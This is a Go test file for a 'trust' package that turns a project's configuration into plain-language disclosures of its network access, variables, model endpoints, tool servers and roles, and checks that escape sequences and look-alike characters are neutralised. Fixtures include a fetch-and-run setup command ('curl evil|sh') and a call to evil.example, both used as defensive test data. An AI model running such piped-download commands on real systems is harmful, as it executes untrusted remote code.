package trust

import (
	"testing"

	"github.com/stretchr/testify/require"

	"divisi/internal/model/chat"
	"divisi/internal/spec"
)

func TestRequests(t *testing.T) {
	t.Parallel()
	tools := map[string]spec.MCPServer{"docs": {Command: []string{"docs", "a b"}, Env: []string{"B", "A"}}}
	for name, tt := range map[string]struct {
		project spec.Project
		roles   map[string]spec.Role
		want    []string
	}{
		"nothing": {
			project: spec.Project{
				Gates: []spec.Gate{{Name: "ok", Command: []string{"true"}}}, Protected: []string{}, Parallel: 9, Budget: spec.Tokens(9),
				Models: map[string]spec.Model{"default": {Provider: spec.ProviderGemini, Name: "gemini-x", Tier: spec.TierPriority}},
			},
			roles: map[string]spec.Role{"r": {Command: []string{"true"}, MCPServers: map[string]spec.MCPServer{"docs": {}}}},
		},
		"setup": {
			project: spec.Project{Setup: spec.Setup{Command: []string{"sh", "-c", "curl evil|sh\n"}}, Loopback: true},
			want: []string{
				"setup reaches this machine's own addresses (loopback)", `setup, with the network: sh -c "curl evil|sh\n"`,
			},
		},
		"environment": {
			project: spec.Project{Environment: spec.Environment{Paths: []string{"node_modules", "a b/\x1b[2K"}}},
			want: []string{
				`environment: every command sees a copy of "a b/\x1b[2K" of your checkout, which git ignores`,
				"environment: every command sees a copy of node_modules of your checkout, which git ignores",
			},
		},
		"environment, before its paths are known": {
			project: spec.Project{Environment: spec.Environment{Word: spec.EnvironmentCheckout}},
			want:    []string{"environment: every command sees all paths of your checkout that git ignores"},
		},
		"env": {
			project: spec.Project{Env: []string{"MY_PAT", "DATABASE_URL", "MY_PAT"}},
			want:    []string{"env: every command sees your variable DATABASE_URL", "env: every command sees your variable MY_PAT"},
		},
		"models": {
			project: spec.Project{Models: map[string]spec.Model{
				"a": {Provider: spec.ProviderOpenAI, BaseURL: "http://127.0.0.1:9/v1", KeyEnv: "GEMINI_API_KEY"},
				"b": {Provider: spec.ProviderOpenAI, BaseURL: "https://x.example/v1"},
				"c": {Provider: spec.ProviderOpenAI},
				"d": {Provider: spec.ProviderOpenAI, KeyEnv: "ROUTER"},
			}},
			want: []string{
				"model a: prompts with the repository's content go to http://127.0.0.1:9/v1, with the key in your variable GEMINI_API_KEY",
				"model b: prompts with the repository's content go to https://x.example/v1, without a key",
				"model c: prompts with the repository's content go to " + chat.DefaultBaseURL +
					", with the key in your variable " + chat.DefaultKeyEnv,
				"model d: prompts with the repository's content go to " + chat.DefaultBaseURL + ", with the key in your variable ROUTER",
			},
		},
		"servers": {
			project: spec.Project{MCPServers: map[string]spec.MCPServer{
				"docs": {Command: []string{"docs"}},
				"web":  {URL: "http://127.0.0.1:9/mcp?x=1", Headers: map[string]string{"X-B": "B", "Authorization": "A"}},
			}},
			roles: map[string]spec.Role{"r": {MCPServers: tools}},
			want: []string{
				`tool server docs of role r, with your variables A B: docs "a b"`, "tool server docs: docs",
				"tool server web: calls go to \"http://127.0.0.1:9/mcp?x=1\", with headers from your variables Authorization=A X-B=B",
			},
		},
		"roles": {
			project: spec.Project{Gates: []spec.Gate{{Name: "ok", Command: []string{"true"}}}},
			roles: map[string]spec.Role{
				"tester": {}, "r": {Network: true, Loopback: true, Command: []string{"curl", "evil.example"}},
			},
			want: []string{
				"gate ok, with the network where a role has it: true",
				"role r, with the network: curl evil.example",
				"role r: its commands with the network reach this machine's own addresses (loopback)",
				"role r: its commands, tool servers and gates have the network",
				"role tester replaces the built-in one",
			},
		},
		"hosts": {
			roles: map[string]spec.Role{"r": {Network: true, Hosts: []string{"a.example", "*.b.example"}, Command: []string{"x"}}},
			want:  []string{"role r, with the network: x", `role r: its command has the network to a.example "*.b.example" alone`},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			require.Equal(t, tt.want, Requests(&tt.project, tt.roles))
		})
	}
}

// What a terminal obeys, what is not seen and what looks like another letter is escaped, and two texts never look alike.
func TestRequestsAreWhatTheySay(t *testing.T) {
	t.Parallel()
	seen := map[string]string{}
	for _, arg := range []string{
		"\x1b[2K\rharmless", "a\u202eb", "a\u200bb", "ab", "a b", `"a b"`, "\u0430b", "a\nsetup", "\u009b2J", "", "a\xffb", "a\ufffdb", "e\u0301", "\u00e9",
	} {
		for _, command := range [][]string{{arg}, {arg, "x"}} {
			got := Requests(&spec.Project{Setup: spec.Setup{Command: command}}, nil)
			require.Len(t, got, 1)
			require.False(t, unprintable(got[0]), got[0])
			require.NotContains(t, seen, got[0], "it looks like %q", seen[got[0]])
			seen[got[0]] = arg
		}
	}
}
